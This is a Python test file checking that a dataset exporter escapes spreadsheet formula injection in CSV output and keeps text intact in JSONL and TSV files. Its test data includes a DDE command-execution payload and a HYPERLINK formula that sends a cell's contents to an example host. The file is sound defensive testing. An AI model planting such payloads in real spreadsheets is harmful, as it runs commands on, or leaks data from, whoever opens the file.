"""Files for spreadsheets hold no formulas; files for programs hold the text as it is."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from askew.data.export import export
from askew.data.read_predictions import read_predictions
from askew.files.read_write import FORMULA_SIGNS, csv_line, safe_cell
from askew.types import Expect, Group, ImageRef, Question, Variant

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]
PLAIN = ["", "yes", "a=b", "1-2", "it's", 'so "said", he', "user@example.com", " two\nlines"]


def test_no_cell_is_a_formula_and_other_text_stays():
    assert all(safe_cell(text) == "'" + text for text in FORMULAS)
    assert [safe_cell(text) for text in PLAIN] == PLAIN
    (row,) = csv.reader([csv_line([*FORMULAS, *PLAIN, -1, 2.5, None]).decode()], lineterminator="\r\n") or [[]]
    assert row[:3] == ["'" + text for text in FORMULAS[:3]]


def groups(image: Path) -> list[Group]:
    """Questions that begin with every sign."""
    found = []
    for number, text in enumerate(FORMULAS):
        asked = Question(number, ImageRef("i", str(image)), f"{text} is what?", ("x",), context="" if number else "=2")
        variant = Variant(Question(f"{number}/v", asked.image, f"Is it {text}?", ("yes",)), Expect.GIVEN, "t", "m")
        found.append(Group(number, "rad", asked, (variant,)))
    return found


@pytest.fixture
def image(tmp_path: Path) -> Path:
    (tmp_path / "=i.png").write_bytes(b"png")
    return tmp_path / "=i.png"


def cells(path: Path, **options: str) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, **options))


def test_the_sheet_for_people_has_no_formula_in_any_cell(tmp_path, image):
    made = export(groups(image), tmp_path / "people", "csv")
    rows = cells(tmp_path / "people" / "askew.csv")
    assert rows[0] == ["askew_ids", "image", "question", "answer"]
    assert len(rows) == 1 + made.questions
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_SIGNS)]
    assert sum(row[2].startswith("'") for row in rows) == len(FORMULAS)


def test_files_for_programs_keep_the_text(tmp_path, image):
    asked = {question.text for group in groups(image) for question in (group.original, group.variants[0].question)}
    export(groups(image), tmp_path / "plain", "jsonl")
    lines = (tmp_path / "plain" / "askew.jsonl").read_text().splitlines()
    assert {json.loads(line)["question"] for line in lines} == asked
    export(groups(image), tmp_path / "vlm", "vlmevalkit", prompt="")
    rows = cells(tmp_path / "vlm" / "askew.tsv", dialect="excel-tab")
    assert {row[3].removeprefix("=2\n") for row in rows[1:]} == asked


def test_a_filled_in_sheet_is_scored_and_empty_cells_are_missing_answers(tmp_path, image):
    export(groups(image), tmp_path / "people", "csv")
    rows = cells(tmp_path / "people" / "askew.csv")
    said = {}
    for place, row in enumerate(rows[1:]):
        row[3] = ("-1", "", " ", "it's", "=1+1")[place % 5]
        if row[3].strip():
            said.update((key, row[3]) for key in json.loads(row[0]))
    with (tmp_path / "filled.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    assert dict(read_predictions(tmp_path / "filled.csv")) == said
    assert len(said) == 12
